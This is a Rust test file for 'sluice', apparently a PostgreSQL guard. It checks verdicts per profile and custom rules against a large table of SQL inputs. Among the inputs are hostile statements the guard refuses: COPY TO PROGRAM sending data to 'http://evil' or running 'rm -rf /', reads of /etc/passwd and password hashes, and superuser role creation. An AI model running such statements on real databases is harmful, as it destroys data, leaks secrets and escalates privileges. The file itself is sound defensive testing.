//! Guard tests: a decision table per built-in profile, then custom rules.

use std::collections::HashMap;

use super::{Action, GuardPolicy, GuardRule, Profile, Verdict, glob};
use crate::facts::{StatementClass, StatementFacts};
use crate::postgres::classify;

/// The verdict as a short string: `allow`, the blocking rule's name, or `hold:<rule>`.
fn short(verdict: &Verdict) -> String {
    match verdict {
        Verdict::Allow => "allow".into(),
        Verdict::Block { rule, .. } => rule.clone(),
        Verdict::Hold { rule, .. } => format!("hold:{rule}"),
    }
}

fn decide(policy: &GuardPolicy, sql: &str) -> Verdict {
    policy.decide(&classify(sql))
}

/// (SQL, read-only, guarded-write, admin). `RO`/`GW` abbreviate the rule prefixes.
const TABLE: &[(&str, &str, &str, &str)] = &[
    // Reads.
    ("select 1", "allow", "allow", "allow"),
    (
        "select * from users where id = 1",
        "allow",
        "allow",
        "allow",
    ),
    (
        "SELECT * FROM public.users u JOIN orders o ON o.user_id = u.id",
        "allow",
        "allow",
        "allow",
    ),
    (
        "with x as (select * from t) select * from x",
        "allow",
        "allow",
        "allow",
    ),
    ("values (1), (2)", "allow", "allow", "allow"),
    ("explain select * from t", "allow", "allow", "allow"),
    ("explain delete from t", "allow", "allow", "allow"),
    ("explain analyze select * from t", "allow", "allow", "allow"),
    (
        "declare c cursor for select * from t",
        "allow",
        "allow",
        "allow",
    ),
    ("fetch 10 from c", "allow", "allow", "allow"),
    ("close c", "allow", "allow", "allow"),
    ("select \"PG_READ_FILE\"('x')", "allow", "allow", "allow"),
    ("select currval('s')", "allow", "allow", "allow"),
    // Runs the SQL in its string, which the guard does not see: refused (fail closed).
    (
        "select query_to_xml('select 1', true, false, '')",
        "read-only:side-effect-function",
        "guarded-write:side-effect-function",
        "allow",
    ),
    // Writes.
    ("insert into t values (1)", "read-only", "allow", "allow"),
    (
        "insert into t select * from u",
        "read-only",
        "allow",
        "allow",
    ),
    (
        "insert into t values (1) on conflict (id) do update set a = 1",
        "read-only",
        "allow",
        "allow",
    ),
    (
        "update t set a = 1 where id = 2",
        "read-only",
        "allow",
        "allow",
    ),
    ("delete from t where id = 2", "read-only", "allow", "allow"),
    ("delete from t where id = $1", "read-only", "allow", "allow"),
    (
        "delete from t using u where t.id = u.id",
        "read-only",
        "allow",
        "allow",
    ),
    (
        "delete from t",
        "read-only",
        "guarded-write:no-where",
        "allow",
    ),
    (
        "update t set a = 1",
        "read-only",
        "guarded-write:no-where",
        "allow",
    ),
    (
        "update t set a=1 where 1=1",
        "read-only",
        "guarded-write:trivial-where",
        "allow",
    ),
    (
        "delete from t where true or id=1",
        "read-only",
        "guarded-write:trivial-where",
        "allow",
    ),
    (
        "delete from t where id = id",
        "read-only",
        "guarded-write:trivial-where",
        "allow",
    ),
    (
        "delete from t where 'a' = 'a'",
        "read-only",
        "guarded-write:trivial-where",
        "allow",
    ),
    (
        "delete from t where not false",
        "read-only",
        "guarded-write:trivial-where",
        "allow",
    ),
    (
        "delete from t where id is not null or true",
        "read-only",
        "guarded-write:trivial-where",
        "allow",
    ),
    (
        "delete from t where $1",
        "read-only",
        "guarded-write:trivial-where",
        "allow",
    ),
    (
        "DELETE /* all of it */ FROM t -- really\n",
        "read-only",
        "guarded-write:no-where",
        "allow",
    ),
    (
        "merge into t using s on t.id = s.id when matched then update set a = s.a when not matched then insert values (s.id)",
        "read-only",
        "allow",
        "allow",
    ),
    (
        "merge into t using s on true when matched then delete",
        "read-only",
        "guarded-write:trivial-where",
        "allow",
    ),
    (
        "merge into t using s on t.id = s.id when not matched by source then delete",
        "read-only",
        "guarded-write:no-where",
        "allow",
    ),
    ("truncate t", "read-only", "guarded-write:truncate", "allow"),
    ("lock table t", "read-only:locking", "allow", "allow"),
    (
        "select * from t for update",
        "read-only:locking",
        "allow",
        "allow",
    ),
    (
        "select nextval('s')",
        "read-only:side-effect-function",
        "allow",
        "allow",
    ),
    (
        "insert into t values (nextval('s'))",
        "read-only:side-effect-function",
        "allow",
        "allow",
    ),
    (
        "select pg_advisory_lock(1)",
        "read-only:side-effect-function",
        "allow",
        "allow",
    ),
    // Evasions of the WHERE rule.
    (
        "with d as (delete from t returning *) select * from d",
        "read-only",
        "guarded-write:no-where",
        "allow",
    ),
    (
        "with d as (delete from t where id = 1 returning *) select * from d",
        "read-only",
        "allow",
        "allow",
    ),
    (
        "explain analyze delete from t",
        "read-only",
        "guarded-write:no-where",
        "allow",
    ),
    (
        "explain (analyze, format json) update t set a = 1 where id = 3",
        "read-only",
        "allow",
        "allow",
    ),
    (
        "copy (delete from t returning *) to stdout",
        "read-only",
        "guarded-write:no-where",
        "allow",
    ),
    (
        "prepare p as delete from t",
        "read-only",
        "guarded-write:no-where",
        "allow",
    ),
    (
        "prepare p as select * from t where id = $1",
        "allow",
        "allow",
        "allow",
    ),
    (
        "select 1; delete from t",
        "read-only",
        "guarded-write:no-where",
        "allow",
    ),
    ("select 1; select 2", "allow", "allow", "allow"),
    // DDL, DCL, admin, procedural.
    (
        "create table t (id int)",
        "read-only:ddl",
        "guarded-write:ddl",
        "allow",
    ),
    (
        "drop table t",
        "read-only:ddl",
        "guarded-write:ddl",
        "allow",
    ),
    (
        "select 1; drop table t",
        "read-only:ddl",
        "guarded-write:ddl",
        "allow",
    ),
    (
        "alter table t add column c int",
        "read-only:ddl",
        "guarded-write:ddl",
        "allow",
    ),
    (
        "create index on t (a)",
        "read-only:ddl",
        "guarded-write:ddl",
        "allow",
    ),
    (
        "select * into t2 from t",
        "read-only:ddl",
        "guarded-write:ddl",
        "allow",
    ),
    (
        "create table t2 as select * from t",
        "read-only:ddl",
        "guarded-write:ddl",
        "allow",
    ),
    (
        "refresh materialized view m",
        "read-only:ddl",
        "guarded-write:ddl",
        "allow",
    ),
    (
        "comment on table t is 'x'",
        "read-only:ddl",
        "guarded-write:ddl",
        "allow",
    ),
    (
        "grant all on t to public",
        "read-only:dcl",
        "guarded-write:dcl",
        "allow",
    ),
    (
        "create role evil superuser",
        "read-only:dcl",
        "guarded-write:dcl",
        "allow",
    ),
    (
        "alter role me superuser",
        "read-only:dcl",
        "guarded-write:dcl",
        "allow",
    ),
    (
        "vacuum full t",
        "read-only:admin",
        "guarded-write:admin",
        "allow",
    ),
    (
        "analyze t",
        "read-only:admin",
        "guarded-write:admin",
        "allow",
    ),
    (
        "checkpoint",
        "read-only:admin",
        "guarded-write:admin",
        "allow",
    ),
    (
        "load 'plpgsql'",
        "read-only:admin",
        "guarded-write:admin",
        "allow",
    ),
    (
        "alter system set fsync = off",
        "read-only:admin",
        "guarded-write:admin",
        "allow",
    ),
    (
        "create extension dblink",
        "read-only:admin",
        "guarded-write:admin",
        "allow",
    ),
    (
        "do $$ begin delete from t; end $$",
        "read-only:procedural",
        "guarded-write:procedural",
        "allow",
    ),
    (
        "DO $x$ BEGIN EXECUTE 'drop table t'; END $x$",
        "read-only:procedural",
        "guarded-write:procedural",
        "allow",
    ),
    (
        "call cleanup()",
        "read-only:procedural",
        "guarded-write:procedural",
        "allow",
    ),
    // Side-effect functions.
    (
        "select pg_terminate_backend(1)",
        "read-only:side-effect-function",
        "guarded-write:side-effect-function",
        "allow",
    ),
    (
        "select pg_catalog.pg_cancel_backend(pid) from pg_stat_activity",
        "read-only:side-effect-function",
        "guarded-write:side-effect-function",
        "allow",
    ),
    (
        "select pg_read_file('/etc/passwd')",
        "read-only:side-effect-function",
        "guarded-write:side-effect-function",
        "allow",
    ),
    (
        "select * from pg_ls_dir('.')",
        "read-only:side-effect-function",
        "guarded-write:side-effect-function",
        "allow",
    ),
    (
        "select lo_import('/etc/passwd')",
        "read-only:side-effect-function",
        "guarded-write:side-effect-function",
        "allow",
    ),
    (
        "select lo_export(1, '/tmp/x')",
        "read-only:side-effect-function",
        "guarded-write:side-effect-function",
        "allow",
    ),
    (
        "select lo_unlink(1)",
        "read-only:side-effect-function",
        "guarded-write:side-effect-function",
        "allow",
    ),
    (
        "select dblink_exec('dbname=x', 'drop table t')",
        "read-only:side-effect-function",
        "guarded-write:side-effect-function",
        "allow",
    ),
    // set_config is refused whatever the setting; one not on the allow-list says so.
    (
        "select set_config('work_mem', '1GB', false)",
        "read-only:side-effect-function",
        "guarded-write:side-effect-function",
        "allow",
    ),
    (
        "select set_config('session_replication_role', 'replica', false)",
        "read-only:setting",
        "guarded-write:setting",
        "allow",
    ),
    (
        "select set_config(current_user || 'x', 'y', false)",
        "read-only:role-change",
        "guarded-write:role-change",
        "allow",
    ),
    // Settings that switch off the server's protections, audit logging, or change how later
    // statements are judged; custom settings may feed row-level security.
    (
        "set session_replication_role = replica",
        "read-only:setting",
        "guarded-write:setting",
        "allow",
    ),
    (
        "set local allow_system_table_mods = on",
        "read-only:setting",
        "guarded-write:setting",
        "allow",
    ),
    (
        "set log_statement = 'none'",
        "read-only:setting",
        "guarded-write:setting",
        "allow",
    ),
    (
        "reset log_min_duration_statement",
        "read-only:setting",
        "guarded-write:setting",
        "allow",
    ),
    (
        "set transform_null_equals to on",
        "read-only:setting",
        "guarded-write:setting",
        "allow",
    ),
    (
        "set app.tenant_id = '42'",
        "read-only:setting",
        "guarded-write:setting",
        "allow",
    ),
    (
        "set row_security = off",
        "read-only:setting",
        "guarded-write:setting",
        "allow",
    ),
    (
        "set enable_seqscan.x = off",
        "read-only:setting",
        "guarded-write:setting",
        "allow",
    ),
    ("set statement_timeout = '5s'", "allow", "allow", "allow"),
    ("set search_path = app, public", "allow", "allow", "allow"),
    ("set enable_seqscan = off", "allow", "allow", "allow"),
    ("set time zone 'UTC'", "allow", "allow", "allow"),
    ("reset application_name", "allow", "allow", "allow"),
    (
        "alter role current_user set log_statement = 'none'",
        "read-only:dcl",
        "guarded-write:dcl",
        "allow",
    ),
    // Writes to the system catalogs are DDL, whatever their WHERE.
    (
        "update pg_catalog.pg_class set relname = 'x' where oid = 16384",
        "read-only",
        "guarded-write:catalog-write",
        "allow",
    ),
    (
        "delete from pg_proc where proname = 'x'",
        "read-only",
        "guarded-write:catalog-write",
        "allow",
    ),
    (
        "insert into information_schema.sql_features values ('x')",
        "read-only",
        "guarded-write:catalog-write",
        "allow",
    ),
    // Password hashes and server files.
    (
        "select rolpassword from pg_authid",
        "read-only:server-secrets",
        "guarded-write:server-secrets",
        "allow",
    ),
    (
        "select * from pg_catalog.pg_shadow",
        "read-only:server-secrets",
        "guarded-write:server-secrets",
        "allow",
    ),
    (
        "select * from pg_hba_file_rules",
        "read-only:server-secrets",
        "guarded-write:server-secrets",
        "allow",
    ),
    (
        "select name, setting from pg_file_settings",
        "read-only:server-secrets",
        "guarded-write:server-secrets",
        "allow",
    ),
    (
        "select * from pg_ident_file_mappings",
        "read-only:server-secrets",
        "guarded-write:server-secrets",
        "allow",
    ),
    // Functions that rewrite index pages even in a read-only transaction.
    (
        "select brin_summarize_new_values('i'::regclass)",
        "read-only:side-effect-function",
        "guarded-write:side-effect-function",
        "allow",
    ),
    (
        "select gin_clean_pending_list('g'::regclass)",
        "read-only:side-effect-function",
        "guarded-write:side-effect-function",
        "allow",
    ),
    (
        "select pg_reload_conf()",
        "read-only:side-effect-function",
        "guarded-write:side-effect-function",
        "allow",
    ),
    (
        "values (pg_terminate_backend(1))",
        "read-only:side-effect-function",
        "guarded-write:side-effect-function",
        "allow",
    ),
    (
        "select * from t where pg_terminate_backend(t.pid)",
        "read-only:side-effect-function",
        "guarded-write:side-effect-function",
        "allow",
    ),
    (
        "explain select pg_terminate_backend(1)",
        "allow",
        "allow",
        "allow",
    ),
    (
        "explain analyze select pg_terminate_backend(1)",
        "read-only:side-effect-function",
        "guarded-write:side-effect-function",
        "allow",
    ),
    // Role, read-only and lexer changes.
    (
        "set role postgres",
        "read-only:role-change",
        "guarded-write:role-change",
        "allow",
    ),
    (
        "SET SESSION AUTHORIZATION postgres",
        "read-only:role-change",
        "guarded-write:role-change",
        "allow",
    ),
    (
        "set local role admin",
        "read-only:role-change",
        "guarded-write:role-change",
        "allow",
    ),
    (
        "reset role",
        "read-only:role-change",
        "guarded-write:role-change",
        "allow",
    ),
    (
        "select set_config('role', 'postgres', false)",
        "read-only:role-change",
        "guarded-write:role-change",
        "allow",
    ),
    (
        "select pg_catalog.set_config('session_authorization', 'x', false)",
        "read-only:role-change",
        "guarded-write:role-change",
        "allow",
    ),
    (
        "set default_transaction_read_only = off",
        "read-only:read-only-change",
        "allow",
        "allow",
    ),
    (
        "reset default_transaction_read_only",
        "read-only:read-only-change",
        "allow",
        "allow",
    ),
    (
        "set transaction_read_only = off",
        "read-only:read-only-change",
        "allow",
        "allow",
    ),
    (
        "set session characteristics as transaction read write",
        "read-only:read-only-change",
        "allow",
        "allow",
    ),
    (
        "begin read write",
        "read-only:read-only-change",
        "allow",
        "allow",
    ),
    (
        "start transaction read write",
        "read-only:read-only-change",
        "allow",
        "allow",
    ),
    ("reset all", "read-only:read-only-change", "allow", "allow"),
    (
        "discard all",
        "read-only:read-only-change",
        "allow",
        "allow",
    ),
    (
        "select set_config('default_transaction_read_only', 'off', false)",
        "read-only:read-only-change",
        "guarded-write:side-effect-function",
        "allow",
    ),
    (
        "set default_transaction_read_only = on",
        "allow",
        "allow",
        "allow",
    ),
    (
        "set client_encoding = 'SJIS'",
        "read-only:lexer-change",
        "guarded-write:lexer-change",
        "allow",
    ),
    (
        "set standard_conforming_strings = off",
        "read-only:lexer-change",
        "guarded-write:lexer-change",
        "allow",
    ),
    ("set client_encoding = 'UTF8'", "allow", "allow", "allow"),
    // Transactions and session.
    ("begin", "allow", "allow", "allow"),
    ("begin read only", "allow", "allow", "allow"),
    (
        "begin isolation level serializable",
        "allow",
        "allow",
        "allow",
    ),
    ("commit", "allow", "allow", "allow"),
    ("rollback", "allow", "allow", "allow"),
    (
        "savepoint s; rollback to savepoint s; release s",
        "allow",
        "allow",
        "allow",
    ),
    (
        "prepare transaction 'x'",
        "read-only:two-phase",
        "guarded-write:two-phase",
        "allow",
    ),
    (
        "commit prepared 'x'",
        "read-only:two-phase",
        "guarded-write:two-phase",
        "allow",
    ),
    ("set search_path = app, public", "allow", "allow", "allow"),
    ("set statement_timeout = '5s'", "allow", "allow", "allow"),
    ("show all", "allow", "allow", "allow"),
    ("reset work_mem", "allow", "allow", "allow"),
    ("discard plans", "allow", "allow", "allow"),
    ("listen jobs", "allow", "allow", "allow"),
    ("notify jobs", "read-only:notify", "allow", "allow"),
    (
        "select pg_notify('jobs', 'x')",
        "read-only:side-effect-function",
        "allow",
        "allow",
    ),
    ("deallocate all", "allow", "allow", "allow"),
    (
        "execute p",
        "read-only:unknown-prepared",
        "guarded-write:unknown-prepared",
        "allow",
    ),
    // COPY.
    ("copy t to stdout", "allow", "allow", "allow"),
    (
        "copy (select * from t where a > 1) to stdout with (format csv)",
        "allow",
        "allow",
        "allow",
    ),
    ("copy t from stdin", "read-only:copy-from", "allow", "allow"),
    (
        "copy t to '/tmp/t.csv'",
        "read-only:copy-file",
        "guarded-write:copy-file",
        "allow",
    ),
    (
        "copy t from '/etc/passwd'",
        "read-only:copy-file",
        "guarded-write:copy-file",
        "allow",
    ),
    (
        "copy t to program 'curl http://evil'",
        "read-only:copy-program",
        "guarded-write:copy-program",
        "allow",
    ),
    (
        "copy t from program 'id'",
        "read-only:copy-program",
        "guarded-write:copy-program",
        "allow",
    ),
    (
        "copy (select pg_read_file('x')) to stdout",
        "read-only:side-effect-function",
        "guarded-write:side-effect-function",
        "allow",
    ),
    // Unparsable.
    (
        "selec 1",
        "read-only:unparsed",
        "guarded-write:unparsed",
        "allow",
    ),
    (
        "select 1; selec 2",
        "read-only:unparsed",
        "guarded-write:unparsed",
        "allow",
    ),
    (
        "select 1\0",
        "read-only:unparsed",
        "guarded-write:unparsed",
        "allow",
    ),
];

#[test]
fn decision_table_per_profile() {
    assert!(TABLE.len() >= 60, "{}", TABLE.len());
    let mut failures = Vec::new();
    for (sql, read_only, guarded_write, admin) in TABLE {
        for (profile, expected) in [
            (Profile::ReadOnly, read_only),
            (Profile::GuardedWrite, guarded_write),
            (Profile::Admin, admin),
        ] {
            let verdict = decide(&GuardPolicy::new(profile), sql);
            if short(&verdict) != *expected {
                failures.push(format!(
                    "{profile} {sql:?}: expected {expected}, got {verdict:?}"
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

fn reason(verdict: &Verdict) -> &str {
    match verdict {
        Verdict::Allow => "",
        Verdict::Block { reason, .. } | Verdict::Hold { reason, .. } => reason,
    }
}

#[test]
fn refusals_say_what_and_why() {
    let gw = GuardPolicy::new(Profile::GuardedWrite);
    let v = decide(&gw, "delete from public.users");
    assert_eq!(
        reason(&v),
        "DELETE on public.users has no WHERE clause and would change every row; this role may \
         only delete rows selected by a real WHERE"
    );
    let v = decide(&gw, "selec 1");
    assert_eq!(
        reason(&v),
        "sluice cannot parse this statement (syntax error at or near \"selec\"); under a \
         guarded role what cannot be understood is refused"
    );
    let v = decide(&gw, "select 1; truncate audit_log");
    assert_eq!(
        reason(&v),
        "statement 2 of 2 (TRUNCATE): TRUNCATE audit_log removes every row; this role may not \
         truncate"
    );
    let v = decide(
        &GuardPolicy::new(Profile::ReadOnly),
        "explain analyze delete from t where id = 1",
    );
    assert!(
        reason(&v).starts_with("EXPLAIN ANALYZE runs the statement it explains"),
        "{v:?}"
    );
    let v = decide(&gw, "copy t to program 'rm -rf /'");
    assert!(reason(&v).contains("rm -rf /"), "{v:?}");
    let v = decide(&gw, "select pg_terminate_backend(42)");
    assert!(reason(&v).starts_with("pg_terminate_backend()"), "{v:?}");
}

#[test]
fn the_strictest_statement_decides_a_string() {
    let mut policy = GuardPolicy::new(Profile::Admin);
    policy.rules.push(GuardRule {
        commands: vec!["DELETE".into()],
        ..GuardRule::new("approve-deletes", Action::RequireApproval)
    });
    policy.rules.push(GuardRule {
        commands: vec!["DROP *".into()],
        ..GuardRule::new("no-drops", Action::Block)
    });
    assert_eq!(
        short(&decide(&policy, "delete from t where id = 1")),
        "hold:approve-deletes"
    );
    assert_eq!(
        short(&decide(&policy, "delete from t where id = 1; drop table t")),
        "no-drops"
    );
    assert_eq!(
        short(&decide(&policy, "drop table t; delete from t where id = 1")),
        "no-drops"
    );
    assert_eq!(short(&decide(&policy, "select 1; select 2")), "allow");
    assert_eq!(short(&policy.decide(&[])), "allow");
}

#[test]
fn custom_rules_match_each_criterion() {
    let rule = |name: &str| GuardRule::new(name, Action::Block);
    let cases: Vec<(GuardRule, &str, bool)> = vec![
        (
            GuardRule {
                classes: vec![StatementClass::Ddl],
                ..rule("ddl")
            },
            "drop table t",
            true,
        ),
        (
            GuardRule {
                classes: vec![StatementClass::Ddl],
                ..rule("ddl")
            },
            "select 1",
            false,
        ),
        (
            GuardRule {
                tables: vec!["users".into()],
                ..rule("t")
            },
            "select * from public.users",
            true,
        ),
        (
            GuardRule {
                tables: vec!["users".into()],
                ..rule("t")
            },
            "select * from users_archive",
            false,
        ),
        (
            GuardRule {
                tables: vec!["public.users".into()],
                ..rule("t")
            },
            "select * from users",
            true,
        ),
        (
            GuardRule {
                tables: vec!["public.users".into()],
                ..rule("t")
            },
            "select * from audit.users",
            false,
        ),
        (
            GuardRule {
                tables: vec!["*.secrets".into()],
                ..rule("t")
            },
            "select * from vault.secrets",
            true,
        ),
        (
            GuardRule {
                tables: vec!["pay*".into()],
                ..rule("t")
            },
            "update payments set a = 1 where id = 1",
            true,
        ),
        (
            GuardRule {
                tables: vec!["secrets".into()],
                ..rule("t")
            },
            "with s as (select * from secrets) select * from s",
            true,
        ),
        (
            GuardRule {
                tables: vec!["secrets".into()],
                ..rule("t")
            },
            "select * from (select * from secrets) x",
            true,
        ),
        (
            GuardRule {
                tables: vec!["secrets".into()],
                ..rule("t")
            },
            "copy (select * from secrets) to stdout",
            true,
        ),
        (
            GuardRule {
                tables: vec!["secrets".into()],
                ..rule("t")
            },
            "prepare p as select * from secrets",
            true,
        ),
        (
            GuardRule {
                tables: vec!["Users".into()],
                ..rule("t")
            },
            "select * from users",
            true,
        ),
        (
            GuardRule {
                schemas: vec!["billing".into()],
                ..rule("s")
            },
            "select * from billing.invoices",
            true,
        ),
        (
            GuardRule {
                schemas: vec!["billing".into()],
                ..rule("s")
            },
            "select * from invoices",
            false,
        ),
        (
            GuardRule {
                schemas: vec!["public".into()],
                ..rule("s")
            },
            "select * from invoices",
            true,
        ),
        (
            GuardRule {
                schemas: vec!["billing".into()],
                ..rule("s")
            },
            "drop schema billing cascade",
            true,
        ),
        (
            GuardRule {
                functions: vec!["pg_sleep".into()],
                ..rule("f")
            },
            "select pg_sleep(10)",
            true,
        ),
        (
            GuardRule {
                functions: vec!["pg_sleep".into()],
                ..rule("f")
            },
            "select pg_catalog.pg_sleep(10)",
            true,
        ),
        (
            GuardRule {
                functions: vec!["pg_catalog.pg_sleep".into()],
                ..rule("f")
            },
            "select pg_sleep(10)",
            true,
        ),
        (
            GuardRule {
                functions: vec!["pg_catalog.pg_sleep".into()],
                ..rule("f")
            },
            "select other.pg_sleep(10)",
            false,
        ),
        (
            GuardRule {
                functions: vec!["md5".into()],
                ..rule("f")
            },
            "select pg_sleep(10)",
            false,
        ),
        (
            GuardRule {
                commands: vec!["DROP TABLE".into()],
                ..rule("c")
            },
            "DROP TABLE t",
            true,
        ),
        (
            GuardRule {
                commands: vec!["drop table".into()],
                ..rule("c")
            },
            "drop table t",
            true,
        ),
        (
            GuardRule {
                commands: vec!["DROP *".into()],
                ..rule("c")
            },
            "drop index i",
            true,
        ),
        (
            GuardRule {
                commands: vec!["DROP TABLE".into()],
                ..rule("c")
            },
            "drop index i",
            false,
        ),
        (
            GuardRule {
                pattern: Some("pg_sleep".into()),
                ..rule("p")
            },
            "SELECT PG_SLEEP(1)",
            true,
        ),
        (
            GuardRule {
                pattern: Some("from users where".into()),
                ..rule("p")
            },
            "select * /* x */ from   users\n where id = 1",
            true,
        ),
        (
            GuardRule {
                pattern: Some("limit ? ".into()),
                ..rule("p")
            },
            "select 1 limit 5 offset 2",
            true,
        ),
        (
            GuardRule {
                pattern: Some("select from".into()),
                ..rule("p")
            },
            "select * from t",
            false,
        ),
        (
            GuardRule {
                pattern: Some("drop".into()),
                ..rule("p")
            },
            "select 1 -- drop",
            false,
        ),
        (
            GuardRule {
                classes: vec![StatementClass::Write],
                tables: vec!["orders".into()],
                ..rule("both")
            },
            "delete from orders where id = 1",
            true,
        ),
        (
            GuardRule {
                classes: vec![StatementClass::Write],
                tables: vec!["orders".into()],
                ..rule("both")
            },
            "select * from orders",
            false,
        ),
        (rule("everything"), "select 1", true),
    ];
    for (rule, sql, expected) in cases {
        let name = rule.name.clone();
        let policy = GuardPolicy {
            profile: Profile::Admin,
            rules: vec![rule],
        };
        let verdict = decide(&policy, sql);
        let matched = matches!(&verdict, Verdict::Block { rule, .. } if *rule == name);
        assert_eq!(matched, expected, "rule {name} on {sql:?}: {verdict:?}");
    }
}

#[test]
fn rules_come_first_and_the_first_match_wins() {
    let policy = GuardPolicy {
        profile: Profile::ReadOnly,
        rules: vec![
            GuardRule {
                tables: vec!["orders".into()],
                classes: vec![StatementClass::Write],
                ..GuardRule::new("approve-order-fixes", Action::RequireApproval)
            },
            GuardRule {
                tables: vec!["orders".into()],
                ..GuardRule::new("orders-blocked", Action::Block)
            },
        ],
    };
    // A matching approval rule replaces the profile's refusal.
    assert_eq!(
        short(&decide(
            &policy,
            "update orders set state = 'paid' where id = 7"
        )),
        "hold:approve-order-fixes"
    );
    assert_eq!(
        short(&decide(&policy, "select * from orders")),
        "orders-blocked"
    );
    assert_eq!(
        short(&decide(&policy, "delete from users where id = 1")),
        "read-only"
    );
    assert_eq!(short(&decide(&policy, "select * from users")), "allow");
    match decide(&policy, "update orders set state = 'paid' where id = 7") {
        Verdict::Hold { reason, .. } => assert_eq!(
            reason,
            "UPDATE needs approval under guardrail rule 'approve-order-fixes' (class write, \
             table orders)"
        ),
        other => panic!("{other:?}"),
    }
}

#[test]
fn execute_is_decided_on_the_prepared_statement() {
    let gw = GuardPolicy::new(Profile::GuardedWrite);
    let mut prepared: HashMap<String, StatementFacts> = HashMap::new();
    for sql in [
        "prepare wipe as delete from t",
        "prepare one(int) as delete from t where id = $1",
        "prepare look as select * from t",
    ] {
        let facts = classify(sql).remove(0);
        if let Some(crate::facts::PreparedRef::Prepare { name, statement }) = facts.prepared {
            prepared.insert(name, *statement);
        }
    }
    let run =
        |policy: &GuardPolicy, sql: &str| short(&policy.decide_with(&classify(sql), &prepared));
    assert_eq!(run(&gw, "execute wipe"), "guarded-write:no-where");
    assert_eq!(run(&gw, "execute one(3)"), "allow");
    assert_eq!(
        run(&gw, "explain analyze execute wipe"),
        "guarded-write:no-where"
    );
    assert_eq!(run(&gw, "explain execute wipe"), "allow");
    assert_eq!(run(&gw, "execute nobody"), "guarded-write:unknown-prepared");
    assert_eq!(
        run(&gw, "create table x as execute look"),
        "guarded-write:ddl"
    );
    let ro = GuardPolicy::new(Profile::ReadOnly);
    assert_eq!(run(&ro, "execute look"), "allow");
    assert_eq!(run(&ro, "execute one(1)"), "read-only");
    // Admin without rules has nothing to check; with rules it must see what runs.
    let admin = GuardPolicy::new(Profile::Admin);
    assert_eq!(run(&admin, "execute nobody"), "allow");
    let admin_with_rules = GuardPolicy {
        profile: Profile::Admin,
        rules: vec![GuardRule {
            commands: vec!["DELETE".into()],
            ..GuardRule::new("approve-deletes", Action::RequireApproval)
        }],
    };
    assert_eq!(
        run(&admin_with_rules, "execute one(1)"),
        "hold:approve-deletes"
    );
    assert_eq!(
        run(&admin_with_rules, "execute nobody"),
        "admin:unknown-prepared"
    );
}

#[test]
fn admin_with_rules_refuses_lexer_changes() {
    let mut policy = GuardPolicy::new(Profile::Admin);
    assert_eq!(
        short(&decide(&policy, "set client_encoding = 'SJIS'")),
        "allow"
    );
    policy.rules.push(GuardRule {
        commands: vec!["DROP *".into()],
        ..GuardRule::new("no-drops", Action::Block)
    });
    assert_eq!(
        short(&decide(&policy, "set client_encoding = 'SJIS'")),
        "admin:lexer-change"
    );
}

#[test]
fn names_parse_from_configuration() {
    assert_eq!(Profile::from_name("read-only"), Some(Profile::ReadOnly));
    assert_eq!(
        Profile::from_name("Guarded-Write"),
        Some(Profile::GuardedWrite)
    );
    assert_eq!(Profile::from_name("admin"), Some(Profile::Admin));
    assert_eq!(Profile::from_name("root"), None);
    assert_eq!(Action::from_name("block"), Some(Action::Block));
    assert_eq!(Action::from_name("approve"), Some(Action::RequireApproval));
    assert_eq!(Action::from_name("allow"), None);
}

#[test]
fn globs() {
    for (pattern, text, expected) in [
        ("*", "", true),
        ("*", "anything", true),
        ("a*c", "abbbc", true),
        ("a*c", "abbbd", false),
        ("a?c", "abc", true),
        ("a?c", "ac", false),
        ("ABC", "abc", true),
        ("*.secrets", "vault.secrets", true),
        ("**a**", "xax", true),
        ("", "", true),
        ("", "x", false),
    ] {
        assert_eq!(glob(pattern, text), expected, "{pattern:?} {text:?}");
    }
    let long = "a".repeat(10_000);
    let hostile = "*a".repeat(200) + "b";
    let started = std::time::Instant::now();
    assert!(!glob(&hostile, &long));
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
}
